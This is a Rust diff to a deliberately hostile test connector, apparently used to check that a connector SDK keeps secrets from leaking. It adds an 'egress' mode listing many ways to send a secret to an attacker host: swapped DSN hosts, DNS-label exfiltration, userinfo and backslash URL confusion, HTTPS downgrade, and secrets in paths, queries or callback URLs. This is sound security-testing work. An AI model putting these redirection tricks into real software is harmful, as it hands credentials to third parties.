@@ -21,7 +21,7 @@ thread_local! {
 
 impl Connector for Hostile {
     fn info() -> ConnectorInfo {
-        ConnectorInfo::new("hostile", "0.2.0", "Misbehaves on request")
+        ConnectorInfo::new("hostile", "0.3.0", "Misbehaves on request")
             .field(Field::new("mode", "What to do").required())
             .field(Field::new("secret", "Read before misbehaving").sensitive())
             .field(Field::new(
@@ -31,6 +31,20 @@ impl Connector for Hostile {
             .field(Field::new(
                 "address",
                 "Mode network: the host:port to connect to",
+            ))
+            // Mode egress: declared exactly as the postgres and http-api
+            // examples declare theirs.
+            .field(Field::new("host", "Mode egress: the database host").host())
+            .field(Field::new("port", "Mode egress: the database port").port())
+            .field(Field::new("database", "Mode egress: the database").resource())
+            .field(Field::new("base_url", "Mode egress: the API's base URL").url())
+            .field(Field::new(
+                "attack",
+                "Mode egress: which redirection to try",
+            ))
+            .field(Field::new(
+                "attacker",
+                "Mode egress: the attacker's host (and port)",
             ))
     }
 
@@ -123,7 +137,7 @@ impl Connector for Hostile {
                 ));
             }
             "forge-output" => {
-                return Ok(vec![Output::new("result\n\u{1b}[31mfake", "x")]);
+                return Ok(vec![Output::credential("result\n\u{1b}[31mfake", "x")]);
             }
             "log-flood" => {
                 for i in 0..100_000 {
@@ -141,9 +155,10 @@ impl Connector for Hostile {
                 "printed".into()
             }
             "exfiltrate" => return exfiltrate(fields.require("secret")?),
+            "egress" => return egress(fields, plain("attack")?, plain("attacker")?),
             "exfiltrate-name" => {
                 let text = reveal(fields.require("secret")?)?;
-                return Ok(vec![Output::new(&format!("name-{text}"), "x")]);
+                return Ok(vec![Output::credential(&format!("name-{text}"), "x")]);
             }
             "exfiltrate-error" => {
                 let secret = fields.require("secret")?;
@@ -162,7 +177,10 @@ impl Connector for Hostile {
             "unstash" => STASH.with(|s| s.borrow().1.clone()),
             "unstash-handle" => {
                 let handle = STASH.with(|s| s.borrow().0).unwrap_or_default();
-                return Ok(vec![Output::new("result", Text::__from_handle(handle))]);
+                return Ok(vec![Output::credential(
+                    "result",
+                    Text::__from_handle(handle),
+                )]);
             }
             other => {
                 return Err(RenderError::field(
@@ -171,7 +189,7 @@ impl Connector for Hostile {
                 ));
             }
         };
-        Ok(vec![Output::new("result", result)])
+        Ok(vec![Output::credential("result", result)])
     }
 }
 
@@ -182,8 +200,8 @@ impl Connector for Hostile {
 /// every way it can think of.
 fn exfiltrate(secret: &Text) -> Result<Vec<Output>, RenderError> {
     let mut out = vec![
-        Output::new("sealed", secret),
-        Output::new(
+        Output::credential("sealed", secret),
+        Output::credential(
             "sealed-encoded",
             compose![
                 secret.clone().percent(),
@@ -194,28 +212,119 @@ fn exfiltrate(secret: &Text) -> Result<Vec<Output>, RenderError> {
                 secret.clone().uri_host(),
             ],
         ),
-        Output::new(&format!("name {secret:?}"), "x"),
+        Output::credential(&format!("name {secret:?}"), "x"),
     ];
     log(Level::Warn, &format!("sealed {secret:?}"));
     let text = match reveal(secret) {
         Ok(text) => text,
         Err(e) => {
             log(Level::Warn, &format!("reveal refused: {}", e.message));
-            out.push(Output::new("reveal", e.message));
+            out.push(Output::credential("reveal", e.message));
             return Ok(out);
         }
     };
     for (i, form) in encodings(&text).into_iter().enumerate() {
         log(Level::Warn, &format!("leak {i}: {form}"));
-        out.push(Output::new(&format!("leak-{i}"), form));
+        out.push(Output::credential(&format!("leak-{i}"), form));
     }
     invalidate(&format!("{{{{ secrets['{text}'] }}}}"));
     invalidate(&format!("{{{{ secrets.db['{text}'] }}}}"));
     invalidate(&format!(
         "{{{{ arn:aws:secretsmanager:us-east-1:123456789012:secret:db:password:{text}: }}}}"
     ));
-    out.push(Output::new("revealed", text));
+    out.push(Output::credential("revealed", text));
     Ok(out)
+}
+
+/// Tries to send the secret somewhere the operator did not configure, in
+/// the way `attack` names; `honest` renders what the examples render.
+fn egress(fields: &Fields, attack: &str, attacker: &str) -> Result<Vec<Output>, RenderError> {
+    let secret = fields.require("secret")?.clone();
+    let host = fields.get("host").cloned().unwrap_or_else(|| "".into());
+    let port = fields.plain("port")?.unwrap_or("5432");
+    let database = fields.get("database").cloned().unwrap_or_else(|| "".into());
+    let base_url = fields.get("base_url").cloned().unwrap_or_else(|| "".into());
+    let dsn = |to: Text, port: &str| {
+        compose![
+            "postgresql://app:",
+            secret.clone().percent(),
+            "@",
+            to,
+            format!(":{port}/"),
+            database.clone().percent(),
+        ]
+    };
+    let basic = compose!["Basic ", compose!["app:", secret.clone()].base64()];
+    let api = |url: Text| {
+        vec![
+            Output::destination("base_url", url),
+            Output::credential("authorization", basic.clone()),
+        ]
+    };
+    let jira = |suffix: Text| compose![base_url.clone(), suffix];
+    let plain_url = base_url.as_plain().unwrap_or_default().to_string();
+    let outputs = match attack {
+        "honest" => vec![
+            Output::destination("dsn", dsn(host.clone().uri_host(), port)),
+            Output::destination("host", host.clone()),
+        ],
+        "honest-api" => api(base_url.clone()),
+        // The DSN goes to the attacker while `host` still says the real one.
+        "dsn-host" => vec![
+            Output::destination("dsn", dsn(attacker.into(), port)),
+            Output::destination("host", host.clone()),
+        ],
+        "dsn-port" => vec![Output::destination("dsn", dsn(host.clone(), "6543"))],
+        "dns-label" => vec![Output::destination(
+            "dsn",
+            dsn(compose![secret.clone().uri_host(), ".", attacker], port),
+        )],
+        "dns-label-base64url" => vec![Output::destination(
+            "dsn",
+            dsn(compose![secret.clone().base64url(), ".", attacker], port),
+        )],
+        "dns-label-percent" => vec![Output::destination(
+            "dsn",
+            dsn(compose![secret.clone().percent(), ".", attacker], port),
+        )],
+        "password-in-host" => vec![
+            Output::destination("dsn", dsn(host.clone(), port)),
+            Output::credential("host", secret.clone()),
+        ],
+        "secret-in-setting" => vec![
+            Output::destination("dsn", dsn(host.clone(), port)),
+            Output::setting("application_name", secret.clone()),
+        ],
+        "second-destination" => vec![
+            Output::destination("dsn", dsn(host.clone(), port)),
+            Output::destination("replica", dsn(attacker.into(), port)),
+        ],
+        // The attacker's base URL, not sensitive, beside the real header.
+        "base-url" => api(format!("https://{attacker}/").into()),
+        "downgrade" => api(plain_url.replacen("https://", "http://", 1).into()),
+        "other-port" => api(plain_url.replacen(".com/", ".com:8443/", 1).into()),
+        "host-prefix" => api(format!("https://jira.example.com.{attacker}/rest/").into()),
+        "host-suffix" => api("https://attacker-jira.example.com/rest/".into()),
+        "userinfo" => api(format!("https://jira.example.com@{attacker}/rest/").into()),
+        "backslash" => api(format!("https://{attacker}\\@jira.example.com/rest/").into()),
+        "path" => api(jira(compose![secret.clone().percent(), "/api/2/myself"])),
+        "query" => api(jira(compose!["?q=", secret.clone().percent()])),
+        "fragment" => api(jira(compose!["#", secret.clone().percent()])),
+        "url-in-credential" => vec![
+            Output::destination("base_url", base_url.clone()),
+            Output::credential(
+                "callback",
+                compose!["https://", attacker, "/?t=", secret.clone().percent()],
+            ),
+        ],
+        other => {
+            return Err(RenderError::field(
+                "attack",
+                format!("unknown attack `{other}`"),
+            ));
+        }
+    };
+    Ok(outputs)
 }
 
 /// The plaintext in the encodings the SDK offers, and in ones it does not.
